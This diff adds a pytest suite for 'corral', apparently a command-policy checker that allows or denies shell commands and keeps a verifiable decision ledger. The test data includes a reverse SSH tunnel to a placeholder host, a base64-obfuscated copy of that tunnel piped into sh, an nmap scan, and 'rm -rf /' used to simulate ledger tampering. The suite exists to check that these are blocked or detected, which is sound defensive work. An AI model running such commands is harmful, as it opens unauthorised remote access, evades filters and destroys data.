@@ -1,0 +1,133 @@
+"""The CLI contract scripts depend on: exit codes, JSON shapes, batch order, errors."""
+
+from __future__ import annotations
+
+import base64
+import json
+import sqlite3
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+SSH_TUNNEL = "ssh -fN -R 2222:localhost:22 ops@203.0.113.7"
+
+
+@pytest.fixture
+def home(tmp_path: Path) -> Path:
+    return tmp_path / "home"
+
+
+def corral(home: Path, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "corral", *args],
+        input=stdin,
+        capture_output=True,
+        text=True,
+        env={"CORRAL_HOME": str(home), "PATH": "/usr/bin:/bin"},
+        timeout=60,
+    )
+
+
+def test_check_denies_reverse_tunnel_as_tunnel(home: Path) -> None:
+    r = corral(home, "check", "--json", "--", SSH_TUNNEL)
+    assert r.returncode == 1, r.stderr
+    d = json.loads(r.stdout)
+    assert d["decision"] == "deny" and d["category"] == "tunnel"
+    assert set(d) >= {"decision", "rule", "category", "reason"}
+
+
+def test_check_denies_base64_tunnel_piped_into_sh(home: Path) -> None:
+    enc = base64.b64encode(SSH_TUNNEL.encode()).decode()
+    r = corral(home, "check", "--json", "--", f"echo {enc} | base64 -d | sh")
+    assert r.returncode == 1
+    assert json.loads(r.stdout)["decision"] == "deny"
+
+
+def test_check_allows_pytest_under_swe(home: Path) -> None:
+    r = corral(home, "check", "--policy", "swe", "--", "pytest -q tests/")
+    assert r.returncode == 0, r.stdout + r.stderr
+    assert r.stdout.startswith("allow")
+
+
+def test_unbalanced_quotes_deny_with_parse_reason_not_traceback(home: Path) -> None:
+    r = corral(home, "check", "--json", "--", 'echo "oops')
+    assert r.returncode == 1
+    assert "Traceback" not in r.stderr
+    d = json.loads(r.stdout)
+    assert d["decision"] == "deny" and "pars" in d["reason"]
+
+
+def test_batch_keeps_order_and_fields(home: Path, tmp_path: Path) -> None:
+    cmds = ["ls", SSH_TUNNEL, "pytest -q", "nmap 10.0.0.1", "git status"]
+    batch = "".join(json.dumps({"command": c}) + "\n" for c in cmds)
+    r = corral(home, "check", "--batch", "-", stdin=batch)
+    assert r.returncode == 1
+    out = [json.loads(line) for line in r.stdout.splitlines()]
+    assert [o["decision"] for o in out] == ["allow", "deny", "allow", "deny", "allow"]
+    for o in out:
+        assert {"decision", "rule", "category", "reason"} <= set(o)
+
+
+def test_batch_reports_bad_lines_with_line_number(home: Path, tmp_path: Path) -> None:
+    f = tmp_path / "in.jsonl"
+    f.write_text('{"command": "ls"}\nnot json\n{"cmd": "x"}\n')
+    r = corral(home, "check", "--batch", str(f))
+    assert r.returncode == 2
+    out = [json.loads(line) for line in r.stdout.splitlines()]
+    assert len(out) == 3 and out[0]["decision"] == "allow"
+    assert f"{f}:2" in out[1]["reason"] and f"{f}:3" in out[2]["reason"]
+
+
+def test_usage_error_exits_2(home: Path) -> None:
+    assert corral(home, "check").returncode == 2
+    assert corral(home, "frobnicate").returncode == 2
+
+
+def test_bad_policy_file_exits_2_naming_file_line_key(home: Path, tmp_path: Path) -> None:
+    bad = tmp_path / "bad.yaml"
+    bad.write_text("version: 1\ncommands:\n  defualt: allow\n")
+    r = corral(home, "check", "--policy", str(bad), "--", "ls")
+    assert r.returncode == 2
+    assert "bad.yaml:3" in r.stderr and "defualt" in r.stderr
+    assert "Traceback" not in r.stderr
+    r = corral(home, "policy", "validate", str(bad))
+    assert r.returncode == 2 and "bad.yaml:3" in r.stderr
+
+
+def test_policy_show_prints_resolved_preset(home: Path) -> None:
+    r = corral(home, "policy", "show", "swe")
+    assert r.returncode == 0
+    assert "network:" in r.stdout and "extends" not in r.stdout.split("network:")[0].split("\n")[0]
+
+
+def test_decisions_are_recorded_and_verify(home: Path) -> None:
+    corral(home, "check", "--", "ls")
+    corral(home, "check", "--", SSH_TUNNEL)
+    r = corral(home, "log", "--json")
+    recs = [json.loads(line) for line in r.stdout.splitlines()]
+    decisions = [x for x in recs if x["kind"] == "decision"]
+    assert len(decisions) == 2
+    body = decisions[1]["body"]
+    assert body["decision"]["decision"] == "deny"
+    assert body["decision"]["policy_hash"].startswith("sha256:")
+    assert body["action"]["id"] == decisions[1]["action_id"]
+    assert corral(home, "verify").returncode == 0
+
+
+def test_verify_cli_names_first_bad_record(home: Path) -> None:
+    for c in ["ls", "pwd", "git status"]:
+        corral(home, "check", "--", c)
+    db = home / "ledger.db"
+    with sqlite3.connect(db) as conn:
+        conn.execute("UPDATE records SET body = replace(body, 'pwd', 'rm -rf /') WHERE seq = 2")
+    r = corral(home, "verify")
+    assert r.returncode != 0
+    assert "2" in r.stderr
+
+
+def test_demo_runs_and_blocks_the_incident(home: Path) -> None:
+    r = corral(home, "demo")
+    assert r.returncode == 0, r.stdout + r.stderr
+    assert "denied" in r.stdout and "intact" in r.stdout
